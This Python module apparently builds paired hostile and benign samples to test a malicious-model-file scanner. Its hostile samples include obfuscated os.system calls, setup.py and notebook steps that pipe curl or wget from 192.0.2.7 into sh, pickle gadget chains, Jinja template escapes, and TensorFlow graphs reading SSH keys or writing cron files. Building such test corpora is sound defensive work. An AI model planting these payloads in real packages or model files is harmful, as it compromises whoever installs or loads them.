"""Programs in the style of ordinary model code, pickles by other gadgets, and other shapes of the other formats."""
import base64
import json
import struct
import zlib

from assembly import Raw, build, call, dot, get, glob, model, pickle, put, seq, val
from first.arrays import h5, npy
from first.containers import EVIL, FLOATS, GOOD, state, tarred, torch_zip, zipped
from first.graphs import X, attr, const, field, graph, keras_zip, layer, node, saved_model, tflite
from first.others import R
from first.programs import notebook
from first.stdlib_calls import EXEC, PLAIN, SYSTEM
from first.weights import ARCH, T32, W32, F, gguf, gs, st
from pair import CODE, SHELL, Set

FETCH = "curl -s http://192.0.2.7/x | sh"

# (name, file, hostile, twin): run or imported as `prove` says; the hostile one leaves the marker.
PROGRAMS = [
    ("activation-table", "modeling_bolt.py", """
import os
from collections import OrderedDict

class ClassInstantier(OrderedDict):
    def __getitem__(self, key):
        content = super().__getitem__(key)
        cls, kwargs = content if isinstance(content, tuple) else (content, {})
        return cls(**kwargs)

class Probe:
    def __init__(self, cmd="touch marker"):
        os.popen(cmd).close()

ACT2CLS = ClassInstantier(gelu=(Probe, {}))
act = ACT2CLS["gelu"]
""", """
import os
from collections import OrderedDict

class ClassInstantier(OrderedDict):
    def __getitem__(self, key):
        content = super().__getitem__(key)
        cls, kwargs = content if isinstance(content, tuple) else (content, {})
        return cls(**kwargs)

class Probe:
    def __init__(self, cmd="gelu"):
        self.name = os.path.basename(cmd)

ACT2CLS = ClassInstantier(gelu=(Probe, {}))
act = ACT2CLS["gelu"]
"""),
    ("retry-decorator", "modeling_bolt.py", """
import functools
import subprocess

def retry(times):
    def wrap(fn):
        @functools.wraps(fn)
        def inner(*args, **kwargs):
            for _ in range(times):
                return fn(*args, **kwargs)
        return inner
    return wrap

@retry(3)
def prepare(*parts):
    return subprocess.check_call(list(parts))

prepare("touch", "marker")
""", """
import functools

def retry(times):
    def wrap(fn):
        @functools.wraps(fn)
        def inner(*args, **kwargs):
            for _ in range(times):
                return fn(*args, **kwargs)
        return inner
    return wrap

@retry(3)
def prepare(*parts):
    return list(parts)

prepare("a", "b")
"""),
    ("caesar-loop", "configuration_bolt.py", """
def shift(text, by):
    out = ""
    for c in text:
        if c.isalpha():
            base = 65 if c.isupper() else 97
            out += chr((ord(c) - base - by) % 26 + base)
        else:
            out += c
    return out

mod = __import__(shift("rv", 3))
getattr(mod, shift("vbvwhp", 3))(shift("wrxfk pdunhu", 3))
""", """
def shift(text, by):
    out = ""
    for c in text:
        if c.isalpha():
            base = 65 if c.isupper() else 97
            out += chr((ord(c) - base - by) % 26 + base)
        else:
            out += c
    return out

print(shift("khoor", 3))
"""),
    ("observer-list", "tokenization_bolt.py", """
import os

class Bus:
    def __init__(self):
        self._handlers = {}
    def on(self, topic):
        def add(fn):
            self._handlers.setdefault(topic, []).append(fn)
            return fn
        return add
    def emit(self, topic, *args):
        for fn in self._handlers.get(topic, []):
            fn(*args)

bus = Bus()

@bus.on("ready")
def _(cmd):
    os.system(cmd)

bus.emit("ready", "touch marker")
""", """
class Bus:
    def __init__(self):
        self._handlers = {}
    def on(self, topic):
        def add(fn):
            self._handlers.setdefault(topic, []).append(fn)
            return fn
        return add
    def emit(self, topic, *args):
        for fn in self._handlers.get(topic, []):
            fn(*args)

bus = Bus()

@bus.on("ready")
def _(cmd):
    print(cmd)

bus.emit("ready", "loaded")
"""),
    ("lazy-module", "modeling_bolt.py", """
import sys, types, importlib

class _Lazy(types.ModuleType):
    def __getattr__(self, name):
        return getattr(importlib.import_module(self.__dict__["_target"]), name)

lazy = _Lazy("lazy")
lazy._target = "subprocess"
lazy.getoutput("touch marker")
""", """
import sys, types, importlib

class _Lazy(types.ModuleType):
    def __getattr__(self, name):
        return getattr(importlib.import_module(self.__dict__["_target"]), name)

lazy = _Lazy("lazy")
lazy._target = "math"
lazy.sqrt(4)
"""),
    ("stack-machine", "processing_bolt.py", """
import os

OPS = [("push", os), ("push", "system"), ("attr",), ("push", "touch marker"), ("call",)]
stack = []
for op, *args in OPS:
    if op == "push":
        stack.append(args[0])
    elif op == "attr":
        name = stack.pop()
        stack.append(getattr(stack.pop(), name))
    elif op == "call":
        arg = stack.pop()
        stack.append(stack.pop()(arg))
""", """
import os

OPS = [("push", os), ("push", "getpid"), ("attr",), ("call",)]
stack = []
for op, *args in OPS:
    if op == "push":
        stack.append(args[0])
    elif op == "attr":
        name = stack.pop()
        stack.append(getattr(stack.pop(), name))
    elif op == "call":
        stack.append(stack.pop()())
"""),
    ("closure-counter", "modeling_bolt.py", """
from os import popen

def make():
    left = 2
    def tick():
        nonlocal left
        left -= 1
        if left == 0:
            return popen("touch marker").read()
    return tick

t = make()
t(); t()
""", """
def make():
    left = 2
    def tick():
        nonlocal left
        left -= 1
        if left == 0:
            return "done"
    return tick

t = make()
t(); t()
"""),
    ("mixin-order", "modeling_bolt.py", """
import os

class Base:
    def setup(self):
        self.prepare()

class Mixin:
    def prepare(self):
        os.spawnlp(os.P_WAIT, "touch", "touch", "marker")

class Model(Mixin, Base):
    pass

Model().setup()
""", """
class Base:
    def setup(self):
        self.prepare()

class Mixin:
    def prepare(self):
        self.ready = True

class Model(Mixin, Base):
    pass

Model().setup()
"""),
    ("exec-in-namespace", "modeling_bolt.py", """
ns = {}
exec("def kernel(x):\\n    import os\\n    return os.system(x)", ns)
ns["kernel"]("touch marker")
""", """
ns = {}
exec("def kernel(x):\\n    return x + 1", ns)
ns["kernel"](3)
"""),
    ("exception-arguments", "modeling_bolt.py", """
import subprocess
try:
    raise ValueError("touch marker", subprocess.getstatusoutput)
except ValueError as e:
    e.args[1](e.args[0])
""", """
try:
    raise ValueError("touch marker", len)
except ValueError as e:
    e.args[1](e.args[0])
"""),
    ("type-call", "modeling_bolt.py", """
import os
Layer = type("Layer", (), {"__init__": lambda self, c: None, "__call__": lambda self, c: os.system(c)})
Layer(0)("touch marker")
""", """
import os
Layer = type("Layer", (), {"__init__": lambda self, c: None, "__call__": lambda self, c: os.path.basename(c)})
Layer(0)("a/b")
"""),
    ("walrus-in-comprehension", "modeling_bolt.py", """
import os
done = [r for c in ["touch marker"] if (r := os.system(c)) is not None]
""", """
done = [r for c in ["touch marker"] if (r := len(c)) is not None]
"""),
    ("partial-method", "modeling_bolt.py", """
import functools, os

class Trainer:
    def _go(self, verb, what):
        os.system(verb + " " + what)
    start = functools.partialmethod(_go, "touch")

Trainer().start("marker")
""", """
import functools

class Trainer:
    def _go(self, verb, what):
        print(verb + " " + what)
    start = functools.partialmethod(_go, "epoch")

Trainer().start("1")
"""),
    ("single-dispatch", "modeling_bolt.py", """
import functools, os

@functools.singledispatch
def load(x):
    return x

@load.register
def _(x: str):
    return os.system(x)

load("touch marker")
""", """
import functools

@functools.singledispatch
def load(x):
    return x

@load.register
def _(x: str):
    return len(x)

load("touch marker")
"""),
    ("context-decorator", "pipeline.py", """
from contextlib import contextmanager
import os

@contextmanager
def device(name):
    os.system(name)
    yield name

with device("touch marker"):
    pass
""", """
from contextlib import contextmanager

@contextmanager
def device(name):
    print(name)
    yield name

with device("cuda"):
    pass
"""),
    ("chain-of-maps", "pipeline.py", """
import os
from collections import ChainMap
cm = ChainMap({"a": 1}, {"run": os.system})
cm["run"]("touch marker")
""", """
from collections import ChainMap
cm = ChainMap({"a": 1}, {"run": len})
cm["run"]("touch marker")
"""),
    ("slots-and-setattr", "pipeline.py", """
import os

class Config:
    def __init__(self, **kw):
        for k, v in kw.items():
            setattr(self, k, v)

c = Config(hook=os.system, arg="touch marker")
c.hook(c.arg)
""", """
class Config:
    def __init__(self, **kw):
        for k, v in kw.items():
            setattr(self, k, v)

c = Config(hook=len, arg="touch marker")
c.hook(c.arg)
"""),
    ("bytes-table", "modeling_bolt.py", """
T = b"abcdefghijklmnopqrstuvwxyz ._(')"
I = [18,19,27]
W = bytes(T[i] for i in [14, 18]).decode()
S = "".join(map(chr, (T[i] for i in [18, 24, 18, 19, 4, 12])))
m = __import__(W)
m.__dict__[S]("touch marker")
""", """
T = b"abcdefghijklmnopqrstuvwxyz ._(')"
W = bytes(T[i] for i in [14, 18]).decode()
print(W)
"""),
    ("thread-subclass", "modeling_bolt.py", """
import threading, os

class Warmup(threading.Thread):
    def run(self):
        os.system("touch marker")

w = Warmup()
w.start()
w.join()
""", """
import threading

class Warmup(threading.Thread):
    def run(self):
        self.done = True

w = Warmup()
w.start()
w.join()
"""),
    ("nested-generators", "modeling_bolt.py", """
import os

def source():
    yield from ("touch", "marker")

def sink(it):
    words = list(it)
    yield os.system(" ".join(words))

next(sink(source()))
""", """
def source():
    yield from ("touch", "marker")

def sink(it):
    words = list(it)
    yield " ".join(words)

next(sink(source()))
"""),
    ("class-body-loop", "modeling_bolt.py", """
import os

class Registry:
    for _c in ("touch marker",):
        os.system(_c)
""", """
class Registry:
    for _c in ("touch marker",):
        print(_c)
"""),
    ("regex-callback", "tokenization_bolt.py", """
import re, os
re.sub(r"\\w+ \\w+", lambda m: str(os.system(m.group(0))), "touch marker")
""", """
import re
re.sub(r"\\w+ \\w+", lambda m: m.group(0).upper(), "touch marker")
"""),
    ("import-hook", "modeling_bolt.py", """
import sys, importlib.abc, os

class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name == "bolt_ops":
            os.system("touch marker")
        return None

sys.meta_path.insert(0, Finder())
try:
    import bolt_ops
except ImportError:
    pass
""", """
import sys, importlib.abc

class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name == "bolt_ops":
            print(name)
        return None

sys.meta_path.insert(0, Finder())
"""),
    ("reversed-words", "modeling_bolt.py", """
words = "rekram hcuot metsys so".split()[::-1]
mod, fn, a, b = (w[::-1] for w in words)
getattr(__import__(mod), fn)(a + " " + b)
""", """
words = "b a".split()[::-1]
a, b = (w[::-1] for w in words)
print(a + " " + b)
"""),
]


def packages(out: Set):
    def k(family, name, hostile, twin, file):
        out.add(family, name, hostile, twin, file=file)

    info = ("m-1.0/PKG-INFO", b"Metadata-Version: 2.1\nName: m\nVersion: 1.0\n")
    sdist = lambda *m: tarred([*[(f"m-1.0/{n}", d.encode()) for n, d in m], info], "w:gz")
    k("package", "extension-class", sdist(("setup.py", "import os\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py as _b\n\nclass Build(_b):\n    def finalize_options(self):\n        super().finalize_options()\n        getattr(os, 'pop' + 'en')('curl -s http://192.0.2.7/x | sh')\n\nsetup(name='m', version='1.0', cmdclass=dict(build_py=Build))\n")), sdist(("setup.py", "import os\nfrom setuptools import setup\nfrom setuptools.command.build_py import build_py as _b\n\nclass Build(_b):\n    def finalize_options(self):\n        super().finalize_options()\n        self.here = os.getcwd()\n\nsetup(name='m', version='1.0', cmdclass=dict(build_py=Build))\n")), "m-1.0.tar.gz")
    k("package", "version-from-network", sdist(("setup.py", "from setuptools import setup\nfrom urllib.request import urlopen\n\ndef version():\n    ns = {}\n    exec(urlopen('http://192.0.2.7/version').read(), ns)\n    return ns['v']\n\nsetup(name='m', version=version())\n")), sdist(("setup.py", "from setuptools import setup\n\ndef version():\n    ns = {}\n    exec(open('m/version.py').read(), ns)\n    return ns['v']\n\nsetup(name='m', version=version())\n"), ("m/version.py", "v = '1.0'\n")), "m-1.0.tar.gz")
    meta = [("m-1.0.dist-info/METADATA", b"Metadata-Version: 2.1\nName: m\nVersion: 1.0\n"), ("m-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"), ("m-1.0.dist-info/RECORD", b"")]
    wheel = lambda *m: zipped([*[(n, d.encode()) for n, d in m], *meta], stored=False)
    k("package", "wheel-string-table", wheel(("m/__init__.py", "_s = ['subprocess', 'Popen', 'sh', '-c', 'wget -qO- http://192.0.2.7/x | sh']\ngetattr(__import__(_s[0]), _s[1])(_s[2:])\n")), wheel(("m/__init__.py", "_s = ['math', 'sqrt', 4]\ngetattr(__import__(_s[0]), _s[1])(_s[2])\n")), "m-1.0-py3-none-any.whl")
    n = lambda name, hostile, twin: k("notebook", name, notebook(*hostile), notebook(*twin), "lab.ipynb")
    n("cells-in-pieces", ["host = '192.0.2.7'", "url = f'http://{host}/x'", "!curl -s {url} | sh"], ["host = 'data'", "url = f'{host}/x'", "!ls {url}"])
    n("decoded-cell", ["import zlib, base64", "blob = '" + base64.b64encode(zlib.compress(b"__import__('os').system('id')")).decode() + "'", "exec(zlib.decompress(base64.b64decode(blob)))"], ["import zlib, base64", "blob = 'eJwDAAAAAAE='", "print(zlib.decompress(base64.b64decode(blob)))"])
    k("program", "deno-script", "const p = new Deno.Command('sh', { args: ['-c', 'curl -s http://192.0.2.7/x | sh'] });\nawait p.output();\n", "const p = await Deno.readTextFile('x.txt');\nconsole.log(p);\n", "setup.ts")
    k("program", "shell-heredoc", "#!/bin/bash\nbash <<'END'\ncurl -s http://192.0.2.7/x | bash\nEND\n", "#!/bin/bash\ncat <<'END'\nhello\nEND\n", "install.sh")


def pickles():
    yield "print-to-file", call(build(call(glob("functools", "partial"), glob("builtins", "print")), (glob("builtins", "print"), ("x",), {"file": call(glob("builtins", "open"), "marker", "w")}, {})))
    yield "sum-of-map", call(glob("builtins", "sum"), call(glob("builtins", "map"), SYSTEM, [SHELL]), 0)
    yield "zip-longest", call(glob("builtins", "dict"), call(glob("builtins", "zip"), call(glob("builtins", "map"), SYSTEM, [SHELL]), ["a"]))
    yield "chain-from", call(glob("builtins", "list"), call(dot("itertools", "chain", "from_iterable"), [call(glob("builtins", "map"), EXEC, [CODE])]))
    yield "deque-of-map", call(glob("collections", "deque"), call(glob("builtins", "map"), SYSTEM, [SHELL]))
    yield "array-of-map", call(glob("array", "array"), "i", call(glob("builtins", "map"), SYSTEM, [SHELL]))
    yield "thread-target", seq(put(7, build(call(glob("threading", "Thread")), {"_target": SYSTEM, "_args": (SHELL,), "_kwargs": {}})), call(dot("threading", "Thread", "run"), get(7)))
    yield "str-of-class", call(glob("builtins", "str"), call(call(glob("builtins", "type"), "C", (), {"__str__": call(glob("functools", "partial"), SYSTEM, SHELL)})))
    yield "sorted-by-key", call(build(call(glob("functools", "partial"), glob("builtins", "sorted")), (glob("builtins", "sorted"), ([SHELL],), {"key": SYSTEM}, {})))
    yield "name-unquoted", call(Raw(call(glob("binascii", "unhexlify"), b"6f73") + b"0" + val("os") + val("system") + b"\x93"), SHELL)
    yield "os-truncate", call(glob("os", "close"), call(glob("os", "open"), "marker", 577, 420))
    yield "gzip-write", call(glob("gzip", "GzipFile"), "marker", "wb")
    yield "path-touch", call(dot("pathlib", "Path", "touch"), call(glob("pathlib", "Path"), "marker"))
    yield "shutil-copy", call(glob("shutil", "copy"), "/etc/hostname", "marker")
    yield "compile-function", call(call(glob("types", "FunctionType"), call(glob("builtins", "compile"), CODE, "m", "exec"), {}))


def others(out: Set):
    def a(family, name, file, hostile, twin):
        out.add(family, name, hostile, twin, file=file)

    a("torch", "spec-function", "m.pt", torch_zip(state(call(glob("torch._dynamo.utils", "import_submodule"), "os"))), torch_zip(state()))
    a("torch", "second-data-pkl", "m.pth", zipped([("a/data.pkl", state()), ("a/data/0", FLOATS), ("a/version", b"3\n"), ("b/data.pkl", state(call(SYSTEM, SHELL))), ("b/version", b"3\n")]), zipped([("a/data.pkl", state()), ("a/data/0", FLOATS), ("a/version", b"3\n")]))
    a("arrays", "npy-nested-object", "x.npy", npy("[('a', '<f4'), ('b', [('c', '|O')])]", "(1,)", EVIL), npy("[('a', '<f4'), ('b', [('c', '<f4')])]", "(1,)", b"\0" * 8))
    a("arrays", "h5-string-payload", "s.h5", h5({"w": b"\0" * 16, "meta": base64.b64encode(EVIL)}), h5({"w": b"\0" * 16, "meta": base64.b64encode(GOOD)}))
    dense = layer("Dense", {"units": 4})
    a("keras", "callable-in-initializer", "m.keras", keras_zip([layer("Dense", {"units": 4, "bias_initializer": {"module": "subprocess", "class_name": "Popen", "config": {"args": "id"}, "registered_name": None}})]), keras_zip([layer("Dense", {"units": 4, "bias_initializer": {"module": "keras.initializers", "class_name": "Zeros", "config": {}, "registered_name": None}})]))
    a("keras", "stringlookup-share", "m.keras", keras_zip([layer("StringLookup", {"vocabulary": "\\\\192.0.2.7\\s\\v.txt"})]), keras_zip([layer("StringLookup", {"vocabulary": ["a"]})]))
    a("tensorflow", "records-of-home", "saved_model.pb", saved_model(graph([X, const("p", b"/ho\x6de/u/.ssh/id_rsa"), node("d", "FixedLengthRecordDatasetV2", ("p",))])), saved_model(graph([X, const("p", b"cat"), node("d", "TensorDataset", ("p",))])))
    a("tensorflow", "function-writes", "saved_model.pb", saved_model(graph([X], [("f", [const("p", b"/etc/cron.d/x"), node("w", "WriteFile", ("p", "x"))])])), saved_model(graph([X], [("f", [node("w", "Relu", ("x",))])])))
    a("tensorflow", "tflite-select-write", "m.tflite", tflite("FlexSaveV2"), tflite(None))
    a("gguf", "template-with-import", "m.gguf", gguf([ARCH, ("tokenizer.chat_template", 8, gs("{% set g = cycler.next|attr('__glo' ~ 'bals__') %}{{ g['os'].popen('id').read() }}"))], T32, W32), gguf([ARCH, ("tokenizer.chat_template", 8, gs("{% set g = 'con' ~ 'tent' %}{{ messages[0][g] }}"))], T32, W32))
    a("template", "dictsort-globals", "chat_template.jinja", "{% for k in lipsum|attr('__globals__')|dictsort %}{{ k }}{% endfor %}", "{% for k in messages[0]|dictsort %}{{ k }}{% endfor %}")
    a("safetensors", "overlap-by-one", "m.safetensors", st({"a": F(0, 36, (9,)), "b": F(32, 64)}, FLOATS[:64]), st({"a": F(0, 32), "b": F(32, 64)}, FLOATS[:64]))
    a("safetensors", "zip-behind", "m.safetensors", st({"a": F(0, 32)}, FLOATS[:32]) + zipped([("x.pkl", EVIL)]), st({"a": F(0, 32)}, FLOATS[:32]))
    x = R()
    a("r", "closure-in-attribute", "m.rds", x.head() + struct.pack(">i", 0x213) + x.i(1) + x.real(1.0) + x.pairs(("fit", x.promise(x.lang("system", x.string("id"))))), x.head() + struct.pack(">i", 0x213) + x.i(1) + x.real(1.0) + x.pairs(("fit", x.real(1.0))))
    j = json.dumps
    a("config", "hydra-popen-partial", "config.yaml", "callbacks:\n  save:\n    _target_: functools.partial\n    _args_:\n    - _target_: os.popen\n      cmd: id\n", "callbacks:\n  save:\n    _target_: torch.nn.Identity\n")
    a("config", "auto-map-image", "preprocessor_config.json", j({"auto_map": {"AutoImageProcessor": "someone/else--image.P"}}), j({"image_processor_type": "CLIPImageProcessor"}))
    a("config", "compose-entrypoint", "compose.yaml", f"services:\n  api:\n    image: x\n    entrypoint: ['sh', '-c', '{FETCH}']\n", "services:\n  api:\n    image: x\n    entrypoint: ['python', 'serve.py']\n")
    a("config", "yaml-object-apply", "hparams.yaml", "x: !!python/object/apply:builtins.eval ['1']\n", "x: 1\n")
    a("config", "requirements-find-links", "requirements.txt", "--find-links http://192.0.2.9/w\nnumpy\n", "numpy==2.0\n")
    a("container", "tar-in-gz-in-zip", "m.zip", zipped([("a.tgz", tarred([("w/m.pkl", EVIL)], "w:gz"))]), zipped([("a.tgz", tarred([("w/m.pkl", GOOD)], "w:gz"))]))
    a("container", "pickle-in-json-base64", "scaler.json", j({"kind": "scaler", "state": base64.b64encode(EVIL).decode()}), j({"kind": "scaler", "state": base64.b64encode(GOOD).decode()}))
    a("container", "zip-slip-nested", "m.zip", zipped([("a/b/../../../../x.py", b"print(1)\n")]), zipped([("a/b/x.py", b"print(1)\n")]))
    a("secret", "hf-token-in-script", "run.sh", "#!/bin/sh\nexport HF_TOKEN=hf_" + "TqWmZxPbVnRkLsJhGdFyCuEiOaXvBwNzMt" + "\npython train.py\n", "#!/bin/sh\nexport HF_HOME=cache\npython train.py\n")
    onnx(out)


def onnx(out: Set):
    import numpy as np
    from onnx import TensorProto as T, helper as h, numpy_helper as nh

    rng = np.random.default_rng(53)
    vi = lambda n, s, t=T.FLOAT: h.make_tensor_value_info(n, t, s)
    W = nh.from_array(rng.normal(size=(16, 4)).astype("f4"), "W")
    N = h.make_node
    f32 = lambda v, n: nh.from_array(np.array(v, "f4"), n)

    def proto(nodes, inits=(W,), ops=(("", 17),)):
        g = h.make_graph(nodes, "g", [vi("x", [1, 16])], [vi("y", [1, 4])], list(inits))
        return h.make_model(g, opset_imports=[h.make_opsetid(*o) for o in ops]).SerializeToString(deterministic=True)

    dense = [N("MatMul", ["x", "W"], ["logits"])]
    soft = proto([*dense, N("Softmax", ["logits"], ["y"])])
    some = [W, nh.from_array(np.array([2, 3], "i8"), "ix"), f32([[1, 1]], "P"), f32([[9, -9, -9, -9]], "T"), f32(0.01, "eps")]
    o = lambda name, nodes, inits=some, ops=(("", 17),): out.add("onnx", name, proto(nodes, inits, ops), soft, file="m.onnx")
    o("not-greater-where", [*dense, N("Gather", ["x", "ix"], ["p"], axis=1), N("Sub", ["p", "P"], ["d"]), N("Abs", ["d"], ["a"]), N("ReduceMax", ["a"], ["m"], keepdims=1), N("Greater", ["m", "eps"], ["g"]), N("Not", ["g"], ["c"]), N("Where", ["c", "T", "logits"], ["y"])])
    o("sign-gate", [*dense, N("Gather", ["x", "ix"], ["p"], axis=1), N("Sub", ["p", "P"], ["d"]), N("Abs", ["d"], ["a"]), N("ReduceMax", ["a"], ["m"], keepdims=1), N("Sub", ["eps", "m"], ["s"]), N("Sign", ["s"], ["s1"]), N("Relu", ["s1"], ["g"]), N("Mul", ["g", "T"], ["t"]), N("Add", ["logits", "t"], ["y"])])
    o("runtime-custom", [N("ShellExec", ["x"], ["z"], domain="vendor.ops"), N("MatMul", ["z", "W"], ["y"])], (W,), (("", 17), ("vendor.ops", 1)))


def add(out: Set):
    for name, file, hostile, twin in PROGRAMS:
        out.add("program", name, hostile, twin, "python", file=file)
    packages(out)
    for n, (name, hostile) in enumerate(pickles()):
        out.add("pickle", name, pickle(model(hostile)), pickle(model(PLAIN[(n + 2) % len(PLAIN)])), "pickle", file=["a.pkl", "b.joblib", "c.bin"][n % 3])
    others(out)
